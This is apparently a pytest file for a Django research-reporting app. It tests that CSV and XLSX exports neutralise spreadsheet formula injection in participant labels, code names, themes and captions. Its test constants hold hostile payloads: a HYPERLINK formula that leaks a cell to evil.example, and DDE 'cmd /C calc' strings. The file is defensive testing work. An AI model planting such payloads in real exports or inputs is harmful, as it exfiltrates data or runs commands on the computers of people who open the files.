# The `world` fixture is imported from tables_world; pytest injects it by argument name.
# ruff: noqa: F811
"""Formula injection: hostile participant labels, code and theme names in every CSV and XLSX export
(excerpts, frequency by code and by theme, interview statistics, codebook, worker exports) never
reach a spreadsheet as a formula: headers, sheet names, the workbook title and body cells included."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest
from django.urls import reverse

from projects.text import formula_unguarded
from reports.models import ExportJob
from reports.tests.tables_world import world  # noqa: F401 - fixture
from reports.writers import FORMULA_START, Table, safe_cell, write_table

pytestmark = pytest.mark.django_db

LABEL = '=HYPERLINK("http://evil.example/?leak="&A1,"GPT")'
CODE = "+cmd|' /C calc'!A0"
THEME = "@SUM(1+1)*cmd|' /C calc'!A0"
DEFINITION = "-2+3+cmd|' /C calc'!A0"
PROVIDER = "\t=1+1"
MODEL_ID = "\r=1+1"
CAPTION = "=1+1 quotes"
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture
def hostile(world):
    world.gpt.label, world.gpt.provider, world.gpt.model_id = LABEL, PROVIDER, MODEL_ID
    world.gpt.save()
    world.codes["Feeling"].name, world.codes["Feeling"].definition = CODE, DEFINITION
    world.codes["Feeling"].save()
    world.themes["top"].name = THEME
    world.themes["top"].save()
    return world


def url(name: str, w, *args) -> str:
    return reverse(f"reports:{name}", args=[w.project.uuid, *args])


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


def xlsx_text(data: bytes) -> list[str]:
    """Every sheet name, the title and every cell of every sheet, after asserting none can run."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    texts = [*wb.sheetnames, wb.properties.title or ""]
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for text in texts:
        assert not text.startswith(FORMULA_START), f"unguarded cell text {text!r}"
    return texts


def csv_text(data: bytes) -> list[str]:
    """Every cell of the CSV, after asserting none can run (a CSV number like -0.69 is a number, not text)."""
    texts = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
    for text in texts:
        assert NUMBER.fullmatch(text) or not text.startswith(FORMULA_START), f"unguarded cell text {text!r}"
    return texts


def read(fmt: str, data: bytes) -> list[str]:
    return xlsx_text(data) if fmt == "xlsx" else csv_text(data)


def assert_guarded(texts: list[str], *expected: str) -> None:
    """The hostile text is there, shown as text: the apostrophe guard and nothing else changed."""
    joined = "\n".join(texts)
    for text in expected:
        # XML parsers read a carriage return in text as a line feed.
        assert "'" + text in joined or "'" + text.replace("\r", "\n") in joined, f"{text!r} missing from the export"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_excerpt_exports_guard_labels_codes_themes_and_the_caption(hostile, client_for, owner, fmt):
    response = client_for(owner).post(url("excerpts_export", hostile), {
        "format": fmt, "columns": ["theme", "code", "model", "quote"], "caption": CAPTION})
    texts = read(fmt, body(response))
    assert_guarded(texts, CODE, LABEL)
    if fmt == "xlsx":
        assert "'" + CAPTION in texts  # the workbook's title


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("level", ["code", "theme"])
def test_frequency_exports_guard_participant_labels_in_the_header(hostile, client_for, owner, fmt, level):
    response = client_for(owner).get(url("frequency_export", hostile), {
        "format": fmt, "level": level, "a": str(hostile.gpt.uuid), "b": str(hostile.claude.uuid)})
    texts = read(fmt, body(response))
    assert_guarded(texts, f"{LABEL} n", f"{LABEL} %", CODE if level == "code" else THEME)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_statistics_exports_guard_labels_providers_and_model_ids(hostile, client_for, owner, fmt):
    texts = read(fmt, body(client_for(owner).get(url("statistics_download", hostile, fmt))))
    assert_guarded(texts, LABEL, PROVIDER, MODEL_ID)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_codebook_exports_guard_code_names_definitions_and_themes(hostile, client_for, owner, fmt):
    texts = read(fmt, body(client_for(owner).get(url("codebook_download", hostile, fmt))))
    assert_guarded(texts, CODE, DEFINITION)


def test_worker_exports_are_guarded_too(hostile, client_for, owner, monkeypatch, django_capture_on_commit_callbacks):
    monkeypatch.setattr("reports.views.INLINE_MAX_ROWS", 1)
    c = client_for(owner)
    with django_capture_on_commit_callbacks(execute=True):
        c.post(url("excerpts_export", hostile), {"format": "xlsx", "columns": ["code", "model", "quote"]})
    job = ExportJob.objects.get()
    assert_guarded(xlsx_text(body(c.get(url("export_download", hostile, job.uuid)))), CODE, LABEL)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_control_character_cannot_hide_a_formula_start(fmt):
    # XLSX drops characters XML forbids; the guard is applied after, so "\x01=" cannot become "=".
    out = io.BytesIO()
    write_table(fmt, Table(caption="\x00=1", headers=["\x01=h", "n"], rows=iter([["\x02=b", 1], [True, -3]])), out)
    texts = read(fmt, out.getvalue())
    if fmt == "xlsx":
        assert {"'=h", "'=b", "'=1"} <= set(texts)
        assert openpyxl.load_workbook(io.BytesIO(out.getvalue())).active["B3"].value == -3  # numbers stay numbers


@pytest.mark.parametrize("value, expected", [
    ("=1", "'=1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"),
    (-3, -3), (2.5, 2.5), (float("inf"), "∞"), (float("-inf"), "\u2212∞"), (None, None), (True, "True"),
])
def test_safe_cell_guards_text_and_keeps_numbers(value, expected):
    assert safe_cell(value) == expected


@pytest.mark.parametrize("text", ["=1", "-5 °C is cold.", "'=1", "''@x", "'quoted'", "'", "plain", "-inf", ""])
def test_the_guard_comes_off_again_giving_the_text_back(text):
    """Our imports of our own CSV/XLSX files (a codebook) take the guard off: any text comes back as it was, one
    that itself starts with apostrophes before a formula start included (it is guarded too)."""
    assert formula_unguarded(str(safe_cell(text))) == text
    assert safe_cell("'=1") == "''=1" and safe_cell("'quoted'") == "'quoted'"


def test_the_guard_is_the_same_in_csv_and_xlsx():
    """A quote that starts like a formula reads the same in both spreadsheet formats: the apostrophe and the quote."""
    table = Table(caption="Quotes", headers=["Quote"], rows=[["-5 °C is cold."], ["'=x"]])
    out = io.BytesIO()
    write_table("xlsx", table, out)
    csv_out = io.BytesIO()
    write_table("csv", Table(caption="Quotes", headers=["Quote"], rows=[["-5 °C is cold."], ["'=x"]]), csv_out)
    assert xlsx_text(out.getvalue())[-2:] == csv_text(csv_out.getvalue())[-2:] == ["'-5 °C is cold.", "''=x"]
